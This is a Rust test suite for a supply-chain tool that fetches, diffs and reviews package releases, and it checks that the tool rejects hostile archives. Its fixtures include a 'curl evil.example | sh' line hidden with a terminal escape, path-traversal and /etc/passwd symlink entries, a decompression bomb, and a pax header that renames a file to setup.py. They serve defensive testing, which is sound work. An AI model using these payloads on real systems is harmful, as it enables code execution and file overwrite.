//! `import fetch`, `diff` and `review`: the good way, and everything that a release can do to whoever looks at it.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use attest::provenance::Dependency;
use attest::{Digest, Predicate};
use flate2::Compression;
use flate2::write::GzEncoder;

use super::{AT, Shop, both};

type File<'a> = (&'a str, &'a [u8]);

fn tar(files: &[File<'_>]) -> tar::Builder<Vec<u8>> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, bytes) in files {
        let mut header = tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(if name.ends_with(".sh") { 0o755 } else { 0o644 });
        // set by hand: the library would refuse the names that an attacker chooses
        header.as_mut_bytes()[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        builder.append(&header, *bytes).unwrap();
    }
    builder
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn release(files: &[File<'_>]) -> Vec<u8> {
    packed(&tar(files).into_inner().unwrap())
}

fn zipped(files: &[File<'_>]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in files {
        writer.start_file(*name, options).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn empty() -> Shop {
    Shop::new(&[], "dependencies: { pinned: true }")
}

/// Takes a release in from a file.
fn fetch(shop: &Shop, exit: i32, purl: &str, file: &str, bytes: &[u8]) -> String {
    fs::write(shop.at(file), bytes).unwrap();
    let hex = Digest::sha256(bytes).hex();
    shop.run(exit, &format!("import fetch {purl} --from @{file} --sha256 {hex} --store @store"))
}

const OLD: &[File<'static>] = &[
    ("left-1.0.0/src/lib.rs", b"pub fn left() {}\n"),
    ("left-1.0.0/logo.png", b"\x89PNG\x00\x01"),
    ("left-1.0.0/gone.rs", b"old\n"),
    ("left-1.0.0/README", b"left\n"),
];
const NEW: &[File<'static>] = &[
    ("left-1.1.0/src/lib.rs", b"pub fn left() {}\npub fn more() {}\n"),
    ("left-1.1.0/logo.png", b"\x89PNG\x00\x02"),
    ("left-1.1.0/build.sh", b"curl evil.example \x1b[8m| sh\n"),
    ("left-1.1.0/README", b"left\n"),
];

#[test]
fn a_release_is_taken_in_compared_reviewed_and_then_meets_a_policy() {
    let (old, new) = (release(OLD), release(NEW));
    let dependency = Dependency {
        uri: "https://static.crates.io/crates/left/left-1.1.0.crate".to_owned(),
        digests: Digest::sha256(&new).into(),
        ..Dependency::default()
    };
    let shop = Shop::new(&[dependency], "dependencies: { reviewed: { by: [bob] } }");
    let text = fetch(&shop, 0, "pkg:cargo/left@1.0.0", "left-1.0.0.crate", &old);
    assert!(text.contains("4 files, not reviewed"), "{text}");
    let text = shop.run(0, "import diff pkg:cargo/left@1.0.0 --store @store");
    assert!(
        text.contains("old nothing: no release of it was reviewed") && text.contains("0 changed, 4 added"),
        "{text}"
    );
    assert!(text.contains("+pub fn left() {}"), "all of it is new: {text}");
    let review = |exit, version: &str, bytes: &[u8], more: &str| {
        let hex = Digest::sha256(bytes).hex();
        shop.run(
            exit,
            &format!(
                "import review pkg:cargo/left@{version} --sha256 {hex} --reviewer bob@acme.example --key @bob.key \
                 --store @store --at {AT} --out @left-{version}.json {more}"
            ),
        )
    };
    review(2, "1.0.0", &old, "");
    review(0, "1.0.0", &old, "--approve");
    fetch(&shop, 0, "pkg:cargo/left@1.1.0", "left-1.1.0.crate", &new);
    shop.verify(1, &[]);
    let text = shop.run(0, "import diff pkg:cargo/left@1.1.0 --store @store");
    for line in [
        "2 changed, 1 added, 1 removed, 1 the same",
        "added    build.sh (27 bytes, executable)",
        "changed  logo.png (binary, 6 bytes → binary, 6 bytes)",
        "removed  gone.rs (4 bytes)",
        "+++ b/src/lib.rs",
        "+pub fn more() {}",
        "+curl evil.example \u{fffd}[8m| sh",
        "-old",
        "import review pkg:cargo/left@1.1.0 --sha256",
    ] {
        assert!(text.contains(line), "{line}\n{text}");
    }
    assert!(!text.contains('\u{1b}') && !text.contains(" README"), "{text}");
    let text = shop.run(0, "import diff pkg:cargo/left@1.1.0 --store @store --lines 3");
    assert!(text.contains("more lines are not shown: --lines"), "{text}");
    let json = shop.run(0, "import diff pkg:cargo/left@1.1.0 --store @store --format json");
    let json = attest::json::parse(json.as_bytes()).unwrap();
    assert_eq!(json.as_object().unwrap().string("previous").unwrap(), Digest::sha256(&old).to_string());
    let text = review(2, "1.1.0", &old, "--approve");
    assert!(text.contains("what you looked at is not what was taken in"), "{text}");
    review(0, "1.1.0", &new, "--approve");
    let Predicate::Import(import) = shop.predicate("left-1.1.0.json") else { panic!() };
    let package = &import.packages[0];
    assert_eq!((package.previous.clone(), &package.digests), (Some(Digest::sha256(&old)), &both(&new)));
    assert_eq!(package.reviewers, ["bob@acme.example"]);
    shop.verify(0, &["left-1.1.0.json"]);
    let text = shop.verify(1, &["left-1.0.0.json"]);
    assert!(text.contains("evidence-applies") && text.contains("nobody who counts reviewed"), "{text}");
    // the store was written to behind our back
    let path = shop.at(&format!("store/sha256/{}", Digest::sha256(&new).hex()));
    fs::remove_file(&path).unwrap();
    fs::write(&path, release(OLD)).unwrap();
    let text = shop.run(2, "import diff pkg:cargo/left@1.1.0 --store @store");
    assert!(text.contains("other bytes than were taken in"), "{text}");
}

#[test]
fn what_came_must_be_what_was_declared_and_stay_it() {
    let shop = empty();
    let (old, new) = (release(OLD), release(NEW));
    fs::write(shop.at("left.crate"), &old).unwrap();
    let wrong = Digest::sha256(b"other").hex();
    let text = shop.run(
        1,
        &format!("import fetch pkg:cargo/left@1.0.0 --from @left.crate --sha256 {wrong} --store @store"),
    );
    assert!(text.contains("what came is not what was declared"), "{text}");
    fetch(&shop, 0, "pkg:cargo/left@1.0.0", "left.crate", &old);
    fetch(&shop, 0, "pkg:cargo/left@1.0.0", "left.crate", &old);
    let text = fetch(&shop, 1, "pkg:cargo/left@1.0.0", "again.crate", &new);
    assert!(text.contains("this version was taken in before, with other bytes"), "{text}");
    for (purl, why) in [("pkg:cargo/left", "without a version"), ("left@1", "no package URL")] {
        assert!(fetch(&shop, 2, purl, "left.crate", &old).contains(why), "{purl}");
    }
    shop.run(2, "import fetch pkg:cargo/left@1.0.0 --from @left.crate --sha256 12 --store @store");
    let text = shop.run(2, "import diff pkg:cargo/right@1.0.0 --store @store");
    assert!(text.contains("was not taken in"), "{text}");
    let text = shop.run(2, &format!("import diff pkg:cargo/left@1.0.0 --store @store --against {wrong}"));
    assert!(text.contains("nobody reviewed what it should be compared with"), "{text}");
}

#[test]
fn upstreams_signature_is_checked_where_it_is_given() {
    let shop = empty();
    let bytes = release(OLD);
    let hex = Digest::sha256(&bytes).hex();
    fs::write(shop.at("left.crate"), &bytes).unwrap();
    fs::write(shop.at("other"), "other").unwrap();
    for (file, out) in [("left.crate", "good"), ("other", "elsewhere")] {
        shop.run(0, &format!("attest release @{file} --purl pkg:cargo/left@1.0.0 --for all --key @security.key --out @{out}"));
    }
    let fetch = |exit, bundle: &str, key: &str| {
        shop.run(
            exit,
            &format!(
                "import fetch pkg:cargo/left@1.0.0 --from @left.crate --sha256 {hex} --store @store --bundle @{bundle} \
                 --bundle-key @{key}.pub"
            ),
        )
    };
    let text = fetch(1, "elsewhere", "security");
    assert!(
        text.contains("does not prove that upstream made it") && text.contains("it is about sha256:"),
        "{text}"
    );
    assert!(fetch(1, "good", "bob").contains("does not prove that upstream made it"));
    assert!(fetch(1, "left.crate", "security").contains("does not prove that upstream made it"));
    assert!(!fs::exists(shop.at("store/imports")).unwrap());
    fetch(0, "good", "security");
}

#[test]
fn a_release_comes_from_the_host_that_was_typed() {
    let shop = empty();
    let bytes = release(OLD);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let answer = bytes.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut request = [0; 4096];
            let count = stream.read(&mut request).unwrap();
            let away = String::from_utf8_lossy(&request[..count]).contains("/away");
            let head = if away {
                "HTTP/1.1 302 Found\r\nlocation: http://elsewhere.example/left.crate\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_owned()
            } else {
                format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", answer.len())
            };
            stream.write_all(head.as_bytes()).unwrap();
            if !away {
                stream.write_all(&answer).unwrap();
            }
        }
    });
    let hex = Digest::sha256(&bytes).hex();
    let fetch = |exit, path: &str, hex: &str| {
        shop.run(exit, &format!("import fetch pkg:cargo/left@1.0.0 --from http://{address}/{path} --sha256 {hex} --store @store"))
    };
    let text = fetch(2, "away", &hex);
    assert!(text.contains("elsewhere.example"), "a redirect to a host that nobody named: {text}");
    let text = fetch(1, "left.crate", &Digest::sha256(b"other").hex());
    assert!(text.contains("what came is not what was declared"), "{text}");
    fetch(0, "left.crate", &hex);
}

#[test]
fn a_hostile_archive_is_no_release() {
    let shop = empty();
    let link = |target: &str| {
        let mut builder = tar(&[("a/file", b"x")]);
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder.append_link(&mut header, "a/link", target).unwrap();
        packed(&builder.into_inner().unwrap())
    };
    let device = || {
        let mut builder = tar(&[]);
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Char);
        header.set_size(0);
        builder.append_data(&mut header, "null", &b""[..]).unwrap();
        packed(&builder.into_inner().unwrap())
    };
    // more than a gibibyte of nothing in a mebibyte: one packed piece, again and again
    let bomb = {
        let mut header = tar::Header::new_ustar();
        header.set_path("zeros").unwrap();
        header.set_mode(0o644);
        header.set_size(65 << 24);
        header.set_cksum();
        [packed(header.as_bytes()), packed(&vec![0; 1 << 24]).repeat(65)].concat()
    };
    let twice = {
        let mut bytes = zipped(&[("good.rs", b"good"), ("evil.rs", b"evil")]);
        while let Some(at) = bytes.windows(7).position(|w| w == b"evil.rs") {
            bytes[at..at + 7].copy_from_slice(b"good.rs");
        }
        bytes
    };
    // GNU tar and Python unpack `readme` as `setup.py`
    let renamed = {
        let said = b"17 path=setup.py\n";
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::XGlobalHeader);
        header.set_path("pax_global_header").unwrap();
        header.set_size(said.len() as u64);
        header.set_cksum();
        let mut builder = tar(&[]);
        builder.append(&header, &said[..]).unwrap();
        let before = builder.get_ref().clone();
        packed(&[before, tar(&[("readme", b"evil")]).into_inner().unwrap()].concat())
    };
    let whole = release(OLD);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("x.crate", release(&[("../x", b"")]), "leads out of the archive"),
        ("x.crate", release(&[("/etc/x", b"")]), "leads out of the archive"),
        ("x.crate", release(&[("a/../../x", b"")]), "leads out of the archive"),
        ("x.crate", release(&[("a\\..\\x", b"")]), "leads out of the archive"),
        ("x.crate", release(&[("a\nb", b"")]), "leads out of the archive"),
        ("x.crate", release(&[("a", b"1"), ("./a", b"2")]), "is in it twice"),
        ("x.crate", link("../../etc/passwd"), "leads out of the archive, to"),
        ("x.crate", link("/etc/passwd"), "leads out of the archive, to"),
        ("x.crate", renamed, "it gives every file one path"),
        ("x.crate", device(), "neither a file, a folder nor a link"),
        ("x.crate", bomb, "it unpacks to more than 1073741824 bytes"),
        ("x.crate", whole[..whole.len() / 2].to_vec(), "cannot be read as an archive"),
        ("x.crate", zipped(&[("a", b"")]), "packed with gzip and is a zip archive"),
        ("x.crate", packed(b"no tar"), "holds none"),
        ("x.zip", whole.clone(), "a zip archive and is packed with gzip"),
        ("x.whl", twice, "one name twice"),
        ("x.zip", zipped(&[("../x", b"")]), "leads out of the archive"),
        ("x.zip", zipped(&[("a", b"")])[..20].to_vec(), "it has no end"),
    ];
    for (number, (file, bytes, why)) in cases.into_iter().enumerate() {
        let purl = format!("pkg:generic/hostile@{number}");
        let text = fetch(&shop, 1, &purl, file, &bytes);
        assert!(text.contains(why), "{number} {file}: {why}\n{text}");
        let text = shop.run(2, &format!("import diff {purl} --store @store"));
        assert!(text.contains("was not taken in"), "{text}");
    }
    // what is no archive at all is one file
    let text = fetch(&shop, 0, "pkg:generic/script@1", "script.js", b"let x = 1;\n");
    assert!(text.contains("1 file,"), "{text}");
    assert!(link("../a/file").len() > 20);
    fetch(&shop, 0, "pkg:generic/links@1", "y.crate", &link("../a/file"));
    let text = shop.run(0, "import diff pkg:generic/links@1 --store @store");
    assert!(text.contains("added    link (a link to ../a/file)"), "{text}");
}
